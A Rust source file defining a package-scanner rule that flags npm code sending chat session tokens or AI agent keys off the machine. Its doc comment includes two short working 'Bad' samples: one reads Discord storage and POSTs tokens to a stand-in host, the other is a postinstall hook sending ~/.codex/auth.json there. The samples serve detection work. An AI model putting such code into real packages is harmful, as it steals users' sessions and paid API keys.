//! # Sessions of chats or keys of AI agents leave the machine
//!
//! The session store of a chat or game, or the keys, settings or transcripts of an AI agent, reach a
//! request, a look-up or a command that sends.
//!
//! ## Why it matters
//!
//! A session is a login that needs no password. An agent's folder holds keys that cost money and
//! transcripts full of secrets.
//!
//! ## Known benign uses
//!
//! Tools for an agent read its folder when they are called. Bots are given a token.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), path = require("path");
//! const folder = path.join(process.env.APPDATA, "discord/Local Storage/leveldb");
//! for (const name of fs.readdirSync(folder)) {
//!   const text = fs.readFileSync(path.join(folder, name), "latin1");
//!   fetch("https://collector.invalid/d", { method: "POST", body: text.match(/[\w-]{24}\.[\w-]{6}/)[0] }); //~ here
//! }
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os");
//! const key = JSON.parse(fs.readFileSync(os.homedir() + "/.codex/auth.json", "utf8"));
//! fetch("https://collector.invalid/a", { method: "POST", body: JSON.stringify(key) }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! exports.servers = () => Object.keys(JSON.parse(fs.readFileSync(os.homedir() + "/.claude.json", "utf8")).mcpServers);
//! ```
//!
//! ## References
//!
//! - SANDWORM_MODE campaign analyses (February 2026)

use crate::prelude::*;

/// Sessions of chats or keys of AI agents leave the machine.
pub struct SessionFileSent;

impl Rule for SessionFileSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "session-file-sent",
            title: "Sessions of chats or keys of AI agents leave the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1539",
            covers: &["collect-chat-tokens", "collect-llm-keys"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts
            .flows(
                |source| {
                    matches!(
                        source,
                        Source::SecretFile(
                            FileClass::ApplicationSession | FileClass::AgentSecret | FileClass::SystemAccount
                        )
                    )
                },
                Sink::leaves_machine,
            )
            .filter(|flow| flow.trigger.runs_unasked())
        {
            found.flow(flow);
        }
    }
}
